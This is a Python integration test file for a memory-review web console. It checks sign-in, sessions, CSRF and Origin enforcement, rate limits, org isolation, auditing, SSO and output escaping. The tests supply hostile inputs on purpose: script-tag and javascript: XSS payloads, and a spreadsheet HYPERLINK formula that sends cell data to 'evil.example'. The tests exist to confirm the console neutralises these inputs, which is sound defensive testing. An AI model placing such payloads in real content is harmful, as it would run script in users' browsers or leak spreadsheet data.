"""The review console over HTTP, in-process on a real PostgreSQL: sign-in and sessions, headers, CSRF and
Origin checks, the sign-in rate limit, one org per person, every action through the lifecycle and audited."""

from __future__ import annotations

import csv
import io
import re

import pytest
from starlette.testclient import TestClient

from haystack_osa_memory import Caller, Memory, MemoryConfig
from haystack_osa_memory.console import ConsoleSettings, create_console_app
from haystack_osa_memory.console.security import CSP, csv_cell
from haystack_osa_memory.errors import MemoryOffError
from haystack_osa_memory.store.tokens import TokenStore
from tests.e2e.console.conftest import ORIGIN, Browser, csrf_of, person

pytestmark = pytest.mark.integration

ACME = Caller(org_id="acme", assignment_id="asg-1", token_id="a" * 16)
GLOBEX = Caller(org_id="globex", assignment_id="asg-1", token_id="b" * 16)


def propose(memory: Memory, body: str, caller: Caller = ACME, title: str = "A fact") -> str:
    answer = memory.propose("fact", title, body, caller=caller)
    assert "document_id" in answer, answer
    return str(answer["document_id"])


def status_of(memory: Memory, document_id: str, caller: Caller = ACME) -> str:
    return str(memory.read(document_id, caller=caller)["status"])


def test_pages_carry_the_security_headers(browser: Browser, config: MemoryConfig, pg_conn_str: str) -> None:
    pages = [browser.get("/signin"), browser.get("/facts/nope")]
    browser.sign_in(person(config, pg_conn_str))
    pages += [browser.get(p) for p in ("/queue", "/audit", "/health", "/assignments", "/static/console.css")]
    pages.append(browser.get("/facts/" + "0" * 32))
    for page in pages:
        assert page.headers["content-security-policy"] == CSP
        assert CSP == "default-src 'self'; object-src 'none'; frame-ancestors 'none'; base-uri 'none'"
        assert page.headers["x-content-type-options"] == "nosniff"
        assert page.headers["referrer-policy"] == "no-referrer"
        assert page.headers["cache-control"] == "no-store"
    html = pages[2].text
    assert "<script" not in html
    assert "style=" not in html  # the CSP allows no inline style either


def test_sign_in_exchanges_the_token_once_for_a_session(
    browser: Browser, config: MemoryConfig, pg_conn_str: str
) -> None:
    assert browser.get("/queue").headers["location"] == "/signin?m=expired"
    token = person(config, pg_conn_str)
    answer = browser.sign_in(token)
    assert answer.headers["location"] == "/queue"
    cookie = answer.headers["set-cookie"]
    assert cookie.startswith("osam_console=")
    for attribute in ("HttpOnly", "SameSite=strict", "Path=/"):
        assert attribute.lower() in cookie.lower()
    assert "secure" not in cookie.lower()  # plain http: a Secure cookie would never come back
    assert token not in cookie
    secret = token.split("_", 2)[2]  # osam_<token id>_<secret> (the secret itself may hold "_")
    assert len(secret) >= 32
    assert secret not in answer.headers.get("location", "")
    first = browser.client.cookies["osam_console"]
    page = browser.get("/queue")
    assert page.status_code == 200
    assert "Ana Silva" in page.text

    browser.sign_in(token)  # a new session id at every sign-in; the old one ends
    second = browser.client.cookies["osam_console"]
    assert second != first
    browser.use_session(first)
    assert browser.get("/queue").status_code == 303
    browser.use_session(second)
    assert browser.get("/queue").status_code == 200

    out = browser.post("/signout", {"csrf": browser.csrf()})
    assert out.status_code == 303
    assert out.headers["location"] == "/signin?m=out"
    browser.use_session(second)
    assert browser.get("/queue").headers["location"] == "/signin?m=expired"


def test_over_tls_the_cookie_is_secure_and_host_only(config: MemoryConfig, pg_conn_str: str) -> None:
    app = create_console_app(pg_conn_str, config, ConsoleSettings())
    with TestClient(app, base_url="https://testserver") as client:
        answer = client.post(
            "/signin",
            data={"token": person(config, pg_conn_str)},
            headers={"origin": "https://testserver"},
            follow_redirects=False,
        )
        assert answer.status_code == 303
        cookie = answer.headers["set-cookie"].lower()
        assert cookie.startswith("__host-osam_console=")
        assert "; secure" in cookie


def test_sign_in_refuses_agent_and_wrong_tokens(browser: Browser, config: MemoryConfig, pg_conn_str: str) -> None:
    agent = TokenStore(pg_conn_str, config).create(org_id="acme", assignment_id="asg-1").token
    refused = browser.post("/signin", {"token": agent})
    assert refused.status_code == 401
    assert "agent token cannot sign in" in refused.text
    assert "set-cookie" not in refused.headers
    assert browser.post("/signin", {"token": "osam_nope"}).status_code == 401
    revoked = TokenStore(pg_conn_str, config).create_person(org_id="acme", role="reviewer", name="Old")
    TokenStore(pg_conn_str, config).revoke(revoked.token_id)
    assert browser.post("/signin", {"token": revoked.token}).status_code == 401


def test_sign_in_attempts_are_rate_limited(config: MemoryConfig, pg_conn_str: str) -> None:
    settings = ConsoleSettings(signin_attempts=3, signin_window_s=60)
    with TestClient(create_console_app(pg_conn_str, config, settings), base_url=ORIGIN) as client:
        browser = Browser(client)
        for _ in range(3):
            assert browser.post("/signin", {"token": "osam_guess"}).status_code == 401
        limited = browser.post("/signin", {"token": person(config, pg_conn_str)})  # even the right token waits
        assert limited.status_code == 429
        assert limited.headers["retry-after"] == "60"


def test_revoking_the_token_ends_its_sessions(browser: Browser, config: MemoryConfig, pg_conn_str: str) -> None:
    issued = TokenStore(pg_conn_str, config).create_person(org_id="acme", role="reviewer", name="Ana Silva")
    browser.sign_in(issued.token)
    assert browser.get("/queue").status_code == 200
    TokenStore(pg_conn_str, config).revoke(issued.token_id)
    assert browser.get("/queue").headers["location"] == "/signin?m=expired"


def test_state_changes_need_the_csrf_token_and_the_console_origin(
    browser: Browser, memory: Memory, config: MemoryConfig, pg_conn_str: str
) -> None:
    doc = propose(memory, "Deploys go through the staging gate first.")
    browser.sign_in(person(config, pg_conn_str))
    csrf = browser.csrf()
    attempts = [
        ({"action": "accept"}, ORIGIN, None),  # no CSRF token
        ({"action": "accept", "csrf": "0" * 64}, ORIGIN, None),  # a wrong one
        ({"action": "accept", "csrf": csrf}, "http://evil.example", None),  # another origin
        ({"action": "accept", "csrf": csrf}, None, None),  # neither Origin nor Sec-Fetch-Site
        ({"action": "accept", "csrf": csrf}, "null", "cross-site"),
    ]
    for data, origin, site in attempts:
        headers = {k: v for k, v in (("origin", origin), ("sec-fetch-site", site)) if v is not None}
        answer = browser.client.post(f"/facts/{doc}", data=data, headers=headers, follow_redirects=False)
        assert answer.status_code == 403, (data, origin, site)
        assert status_of(memory, doc) == "proposed"
    signin = browser.client.post(
        "/signin", data={"token": "x"}, headers={"origin": "http://evil.example"}, follow_redirects=False
    )
    assert signin.status_code == 403
    # What Chromium sends for a same-origin form under Referrer-Policy: no-referrer.
    ok = browser.client.post(
        f"/facts/{doc}",
        data={"action": "accept", "csrf": csrf},
        headers={"origin": "null", "sec-fetch-site": "same-origin"},
        follow_redirects=False,
    )
    assert ok.status_code == 303
    assert status_of(memory, doc) == "approved"


def test_a_reviewer_sees_and_acts_on_one_org_only(
    browser: Browser, memory: Memory, config: MemoryConfig, pg_conn_str: str
) -> None:
    theirs = propose(memory, "Globex ships the rocket on Friday.", GLOBEX)
    mine = propose(memory, "Deploys go through the staging gate first.")
    browser.sign_in(person(config, pg_conn_str, org="acme"))
    queue = browser.get("/queue").text
    assert mine in queue
    assert theirs not in queue
    unknown = browser.get("/facts/" + "f" * 32)
    other = browser.get(f"/facts/{theirs}")
    assert other.status_code == unknown.status_code == 404
    assert other.text == unknown.text  # nothing tells another org's fact from a missing one
    csrf = browser.csrf()
    assert browser.post(f"/facts/{theirs}", {"action": "accept", "csrf": csrf}).status_code == 404
    assert browser.post(f"/facts/{theirs}", {"action": "forget", "reason": "x", "csrf": csrf}).status_code == 404
    bulk = browser.post("/queue/bulk", [("csrf", csrf), ("action", "accept"), ("ids", theirs), ("ids", mine)])
    assert bulk.status_code == 303
    assert status_of(memory, theirs, GLOBEX) == "proposed"
    assert status_of(memory, mine) == "approved"
    assert theirs not in browser.get(f"/audit?fact={theirs}").text.split("<tbody>")[1]


def test_review_actions_go_through_the_lifecycle_and_are_audited(
    browser: Browser, memory: Memory, config: MemoryConfig, pg_conn_str: str
) -> None:
    accepted = propose(memory, "Deploys go through the staging gate first.", title="Deploys")
    rejected = propose(memory, "The cafeteria serves pizza on Mondays.", title="Pizza")
    flagged = memory.store("The billing service listens on port 8080.", caller=ACME)["document_id"]
    for voter in ("c" * 16, "d" * 16):
        memory.feedback(
            flagged, "flag", "wrong port", caller=Caller(org_id="acme", assignment_id="asg-1", token_id=voter)
        )
    assert status_of(memory, flagged) == "flagged"
    forgotten = memory.store("The search service listens on port 9200.", caller=ACME)["document_id"]

    browser.sign_in(person(config, pg_conn_str, name="Ana Silva"))
    csrf = browser.csrf()
    page = browser.get(f"/facts/{accepted}")
    assert 'value="accept"' in page.text
    assert 'value="restore"' not in page.text
    assert browser.post(f"/facts/{accepted}", {"action": "accept", "note": "checked", "csrf": csrf}).status_code == 303
    assert memory.recall("staging gate", caller=ACME)["facts"][0]["document_id"] == accepted

    no_note = browser.post(f"/facts/{rejected}", {"action": "reject", "csrf": csrf})
    assert no_note.status_code == 400
    assert "note is required" in no_note.text
    assert (
        browser.post(f"/facts/{rejected}", {"action": "reject", "note": "off topic", "csrf": csrf}).status_code == 303
    )
    assert status_of(memory, rejected) == "rejected"
    assert memory.recall("cafeteria pizza", caller=ACME)["facts"] == []

    assert browser.post(f"/facts/{flagged}", {"action": "accept", "csrf": csrf}).status_code == 400  # restore it
    assert 'value="restore"' in browser.get(f"/facts/{flagged}").text
    assert browser.post(f"/facts/{flagged}", {"action": "restore", "csrf": csrf}).status_code == 303
    assert status_of(memory, flagged) == "approved"

    assert browser.post(f"/facts/{forgotten}", {"action": "forget", "csrf": csrf}).status_code == 400
    assert (
        browser.post(f"/facts/{forgotten}", {"action": "forget", "reason": "obsolete", "csrf": csrf}).status_code == 303
    )
    assert browser.get(f"/facts/{forgotten}").status_code == 404

    audit = {(r["document_id"], r["action"]): r for r in memory.lifecycle.audit(org_id="acme")}
    for doc, action in ((accepted, "review"), (rejected, "review"), (flagged, "review"), (forgotten, "forget")):
        actor = audit[(doc, action)]["actor"]
        assert actor.startswith("reviewer:")
        assert actor.endswith(":Ana Silva")
    assert audit[(rejected, "review")]["details"]["note"] == "off topic"
    fact_page = browser.get(f"/facts/{accepted}").text
    assert "reviewer:" in fact_page
    assert "Ana Silva" in fact_page


def test_the_queue_pages_oldest_first_with_filters_and_counts(
    browser: Browser, memory: Memory, config: MemoryConfig, pg_conn_str: str
) -> None:
    ids = [
        propose(memory, f"Service number {i} runs in zone {i % 7} behind gateway g{i}.", title=f"S{i}")
        for i in range(120)
    ]
    other = Caller(org_id="acme", assignment_id="asg-2", token_id="e" * 16)
    elsewhere = propose(memory, "The other assignment keeps its own notes.", other)
    browser.sign_in(person(config, pg_conn_str))
    seen: list[str] = []
    path = "/queue?assignment=asg-1"
    pages = 0
    while path:
        page = browser.get(path).text
        pages += 1
        seen += re.findall(r'name="ids" value="([0-9a-f]+)"', page)
        found = re.search(r'href="(/queue\?[^"]+)" rel="next"', page)
        path = found.group(1).replace("&amp;", "&") if found else ""
    assert pages == 3
    assert seen == ids  # oldest first, each once
    assert "proposed: 120" in browser.get("/queue?assignment=asg-1").text
    assert "proposed: 121" in browser.get("/queue").text
    assert re.findall(r'name="ids" value="([0-9a-f]+)"', browser.get("/queue?assignment=asg-2").text) == [elsewhere]
    assert browser.get("/queue?kind=pitfall").text.count('name="ids"') == 0
    assert browser.get("/queue?older_than_days=1").text.count('name="ids"') == 0
    assert browser.get("/queue?kind=nonsense").status_code == 400
    assert browser.get("/queue?after=garbage").status_code == 400


def test_bulk_review_with_a_note(browser: Browser, memory: Memory, config: MemoryConfig, pg_conn_str: str) -> None:
    ids = [propose(memory, f"Runbook step {i}: restart worker pool {i} after the deploy.") for i in range(5)]
    browser.sign_in(person(config, pg_conn_str))
    csrf = browser.csrf()
    assert browser.post("/queue/bulk", [("csrf", csrf), ("action", "reject"), ("ids", ids[0])]).status_code == 400
    answer = browser.post(
        "/queue/bulk", [("csrf", csrf), ("action", "reject"), ("note", "duplicates"), *[("ids", i) for i in ids[:3]]]
    )
    assert answer.status_code == 303
    assert (
        browser.post("/queue/bulk", [("csrf", csrf), ("action", "accept"), *[("ids", i) for i in ids[3:]]]).status_code
        == 303
    )
    assert [status_of(memory, i) for i in ids] == ["rejected"] * 3 + ["approved"] * 2


def test_admin_pages_switches_and_tokens(
    browser: Browser, memory: Memory, config: MemoryConfig, pg_conn_str: str
) -> None:
    browser.sign_in(person(config, pg_conn_str, role="reviewer"))
    assert browser.get("/switches").status_code == 403
    assert browser.get("/tokens").status_code == 403
    csrf = browser.csrf()
    assert (
        browser.post("/switches", {"csrf": csrf, "state": "off", "assignment": "asg-1", "reason": "x"}).status_code
        == 403
    )

    browser.sign_in(person(config, pg_conn_str, role="admin", name="Bo Admin"))
    csrf = browser.csrf()
    assert "Tokens" in browser.get("/queue").text
    assert browser.post("/switches", {"csrf": csrf, "state": "off", "assignment": "asg-1"}).status_code == 400
    off = browser.post("/switches", {"csrf": csrf, "state": "off", "assignment": "asg-1", "reason": "incident 42"})
    assert off.status_code == 303
    with pytest.raises(MemoryOffError, match="Memory is off for this assignment"):
        memory.store("Anything at all.", caller=ACME)
    assert "incident 42" in browser.get("/switches").text
    assert browser.post("/switches", {"csrf": csrf, "state": "on", "assignment": "asg-1"}).status_code == 303
    assert memory.store("Anything at all, again.", caller=ACME)["document_id"]

    agent = TokenStore(pg_conn_str, config).create(org_id="acme", assignment_id="asg-1")
    foreign = TokenStore(pg_conn_str, config).create(org_id="globex", assignment_id="asg-1")
    listing = browser.get("/tokens").text
    assert agent.token_id in listing
    assert foreign.token_id not in listing
    secret = agent.token.split(f"{agent.token_id}_", 1)[1]  # (the secret itself may hold "_")
    assert len(secret) >= 32
    assert secret not in listing
    assert browser.post(f"/tokens/{foreign.token_id}/revoke", {"csrf": csrf}).status_code == 404
    assert TokenStore(pg_conn_str, config).verify(foreign.token).org_id == "globex"
    assert browser.post(f"/tokens/{agent.token_id}/revoke", {"csrf": csrf}).status_code == 303
    with pytest.raises(Exception, match="invalid, expired or revoked"):
        TokenStore(pg_conn_str, config).verify(agent.token)
    actions = [(r["action"], r["actor"]) for r in memory.lifecycle.audit(org_id="acme")]
    admin_actions = [action for action, actor in actions if actor.startswith("admin:") and actor.endswith(":Bo Admin")]
    assert admin_actions == ["switch", "switch", "revoke_token"]


def test_csv_export_neutralises_formulas(
    browser: Browser, memory: Memory, config: MemoryConfig, pg_conn_str: str
) -> None:
    assert [csv_cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "ok", None, 3)] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\t=1",
        "ok",
        "",
        "3",
    ]
    doc = propose(memory, "Deploys go through the staging gate first.")
    browser.sign_in(person(config, pg_conn_str))
    csrf = browser.csrf()
    note = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert browser.post(f"/facts/{doc}", {"action": "reject", "note": note, "csrf": csrf}).status_code == 303
    export = browser.get("/audit.csv?action=review")
    assert export.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(export.text)))
    assert rows[0] == ["id", "at", "actor", "action", "assignment", "fact", "note", "details"]
    assert rows[1][6] == "'" + note
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_agent_text_is_inert_in_the_html(
    browser: Browser, memory: Memory, config: MemoryConfig, pg_conn_str: str
) -> None:
    body = '<script>alert(1)</script><img src=x onerror="alert(2)"> & "quotes"'
    doc = memory.propose(
        "fact", "<b>bold</b> title", body, paths=["javascript:alert(3)", "https://example.com/x"], caller=ACME
    )["document_id"]
    browser.sign_in(person(config, pg_conn_str))
    html = browser.get(f"/facts/{doc}").text
    assert "<script>alert(1)" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<b>bold</b>" not in html
    assert 'href="javascript:' not in html
    assert 'href="https://example.com/x"' in html
    queue = browser.get("/queue").text
    assert "<script>alert" not in queue
    assert "<img" not in queue


def test_pages_for_browsing_audit_and_health_render(
    browser: Browser, memory: Memory, config: MemoryConfig, pg_conn_str: str
) -> None:
    doc = memory.store("The swift cluster lives in region eu-west-1.", caller=ACME)["document_id"]
    propose(memory, "Deploys go through the staging gate first.")
    browser.sign_in(person(config, pg_conn_str))
    assignments = browser.get("/assignments").text
    assert 'href="/assignments/asg-1"' in assignments
    listing = browser.get("/assignments/asg-1")
    assert listing.status_code == 200
    assert doc in listing.text
    found = browser.post("/assignments/asg-1", {"csrf": csrf_of(listing.text), "q": "swift cluster region"})
    assert found.status_code == 200
    assert found.text.count(doc) >= 2
    assert browser.get("/assignments/bad id!").status_code in (400, 404)
    health = browser.get("/health").text
    assert ">ok<" in health
    assert "<svg" in health
    assert "unknown" in health
    audit = browser.get("/audit?action=store")
    assert audit.status_code == 200
    assert browser.get("/audit?since=notadate").status_code == 400


def _sso_console(
    config: MemoryConfig, pg_conn_str: str, people: dict[str, str], proxies: tuple[str, ...]
) -> TestClient:
    settings = ConsoleSettings(sso_header="X-Forwarded-User", sso_proxies=proxies, sso_people=people)
    return TestClient(create_console_app(pg_conn_str, config, settings), base_url=ORIGIN)


def test_the_sso_proxy_signs_mapped_people_in_from_its_address_only(config: MemoryConfig, pg_conn_str: str) -> None:
    tokens = TokenStore(pg_conn_str, config)
    ana = tokens.create_person(org_id="acme", role="reviewer", name="Ana Silva")
    gone = tokens.create_person(org_id="acme", role="reviewer", name="Gone")
    tokens.revoke(gone.token_id)
    agent = tokens.create(org_id="acme", assignment_id="asg-1")
    people = {"ana@acme.example": ana.token_id, "gone@acme.example": gone.token_id, "bot": agent.token_id}
    with _sso_console(config, pg_conn_str, people, ("testclient",)) as client:  # the test client's address
        signed = client.get("/signin", headers={"x-forwarded-user": "ana@acme.example"}, follow_redirects=False)
        assert signed.status_code == 303
        assert "httponly" in signed.headers["set-cookie"].lower()
        page = client.get("/queue", follow_redirects=False)
        assert page.status_code == 200
        assert "Ana Silva" in page.text
        for login in ("mallory@acme.example", "gone@acme.example", "bot", "x" * 300):
            client.cookies.clear()
            refused = client.get("/signin", headers={"x-forwarded-user": login}, follow_redirects=False)
            assert refused.status_code in (403, 200), login
            assert "set-cookie" not in refused.headers, login
        tokens.revoke(ana.token_id)  # revoking the mapped token ends the session and the mapping
        assert client.get("/queue", follow_redirects=False).status_code == 303
    # From any other address the header is only a header: no session.
    with _sso_console(
        config,
        pg_conn_str,
        {"bo": tokens.create_person(org_id="acme", role="admin", name="Bo").token_id},
        ("10.0.0.1",),
    ) as client:
        ignored = client.get("/signin", headers={"x-forwarded-user": "bo"}, follow_redirects=False)
        assert ignored.status_code == 200
        assert "set-cookie" not in ignored.headers
    # Off by default: the header means nothing.
    with TestClient(create_console_app(pg_conn_str, config, ConsoleSettings()), base_url=ORIGIN) as client:
        ignored = client.get("/signin", headers={"x-forwarded-user": "ana@acme.example"}, follow_redirects=False)
        assert ignored.status_code == 200
        assert "set-cookie" not in ignored.headers


def test_health_charts_the_queue_age_per_day(
    browser: Browser, memory: Memory, config: MemoryConfig, pg_conn_str: str
) -> None:
    import psycopg
    from psycopg import sql

    doc = propose(memory, "The heron cluster rotates its certificates every month.")
    with psycopg.connect(pg_conn_str, autocommit=True) as conn:  # the proposal has waited three days
        conn.execute(
            sql.SQL("UPDATE {schema}.{gov} SET created_at = now() - interval '3 days' WHERE id = %s").format(
                **config.sql_names()
            ),
            (doc,),
        )
    browser.sign_in(person(config, pg_conn_str))

    def ages() -> list[float]:
        rows = re.findall(
            r"<tr><td>\d{4}-\d\d-\d\d</td><td>\d+</td><td>\d+</td><td>([\d.]+)</td></tr>", browser.get("/health").text
        )
        assert len(rows) == 14
        return [float(a) for a in rows]

    before = ages()
    assert before[-1] == 3.0  # today: waiting for three days
    assert 2.0 <= before[-2] <= 3.0  # at the end of yesterday
    assert before[:-4] == [0.0] * 10  # before it existed
    csrf = browser.csrf()
    assert browser.post(f"/facts/{doc}", {"action": "accept", "csrf": csrf}).status_code == 303
    after = ages()
    assert after[-1] == 0.0  # reviewed today: nothing waits
    assert after[-2] == before[-2]  # yesterday it still waited
    assert "<polyline" in browser.get("/health").text
